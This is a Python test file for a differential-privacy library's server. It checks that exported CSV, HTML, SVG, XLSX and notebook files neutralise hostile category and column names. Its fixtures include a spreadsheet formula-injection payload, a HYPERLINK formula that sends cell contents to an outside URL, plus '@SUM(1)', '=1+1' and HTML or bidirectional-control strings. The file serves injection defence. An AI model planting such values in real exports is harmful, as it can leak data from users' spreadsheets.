"""Tables of answers hold no formula, whatever a category is called, and numbers as they were."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from xml.etree import ElementTree
from zipfile import ZipFile

import numpy as np
import pytest
from opened_table import Opened

from dpcurves import ADD_REMOVE, CdfQuestion, Grid, PrivacyLoss, Session
from dpcurves.data import Categories
from dpcurves_server.releases import render_csv

BAD = '=HYPERLINK("https://example.org/?"&A1)'


def test_a_category_that_is_a_formula_is_text_in_the_table() -> None:
    with Session({"x": [1.0, -2.0], "who": [BAD, "b"]}, budget=PrivacyLoss.pure(1), adjacency=ADD_REMOVE) as session:
        question = CdfQuestion("x", Grid(-3, 3, cells=3), by=Categories("who", (BAD, "b")))
        header, *rows = csv.reader(io.StringIO(render_csv(session.ask(question, PrivacyLoss.pure(1)))))
    cells = [cell for row in rows for cell in row]
    assert f"'{BAD}" in cells
    assert BAD not in (*header, *cells)
    assert {"-3.0", "b"} <= set(cells)


@pytest.mark.quick_share(6)
@pytest.mark.parametrize(
    "name", [" income", "@SUM(1)", "=1+1", "VALUE", 'dou"ble, $\\frac{$', "<b>\u202eabc\u200b</b>"]
)
def test_a_column_of_any_name_is_asked_by_a_form_and_downloaded_in_every_format(name: str, tmp_path: Path) -> None:
    """Spaces before a name, as in a CSV file whose commas are followed by one, were cut off in forms."""
    draws, rows = np.random.default_rng(1), 400
    header = name.replace('"', '""')
    lines = [f"{value:.3f},{'uv'[place % 2]}" for place, value in enumerate(draws.beta(2, 5, rows))]
    path = tmp_path / "people.csv"
    path.write_text("\n".join([f'"{header}"," count"', *lines]) + "\n")
    opened = Opened(path, delimiter=",")
    try:
        columns = {
            name: {"use": "numbers", "lower": "0", "upper": "1"},
            " count": {"use": "categories", "values": "u,v"},
        }
        assert opened.declare(columns).status == 303
        asked = {"cdf": {"column": name, "grid.cells": "4", "amount": "100"}}
        asked["mean"] = {"column": name, "by": " count", "amount": "100"}
        for word, fields in asked.items():
            release = re.search(r'action="(/releases/[0-9a-f]+)"', opened.ask(word, fields).text)
            assert release is not None
            files = {
                ending: opened.get(f"{release[1]}/export.{ending}")
                for ending in ("csv", "json", "html", "txt", "svg", "xlsx", "png")
            }
            assert {ending: file.status for ending, file in files.items()} == dict.fromkeys(files, 200)
            table = list(csv.reader(io.StringIO(files["csv"].body.decode(), newline=""), strict=True))
            assert len({heading.casefold() for heading in table[0]}) == len(table[0])
            assert word == "cdf" or {row[0] for row in table[1:]} == {"u", "v"}
            assert "<b>" not in files["html"].text
            ElementTree.fromstring(files["svg"].body)
            assert ZipFile(io.BytesIO(files["xlsx"].body)).testzip() is None
            code = opened.get(f"{release[1]}/notebook.ipynb").json["cells"]
            assert any(repr(name)[1:-1] in "".join(cell["source"]) for cell in code if cell["cell_type"] == "code")
    finally:
        opened.services.questions.planner.stop()
        opened.services.studio.stop()
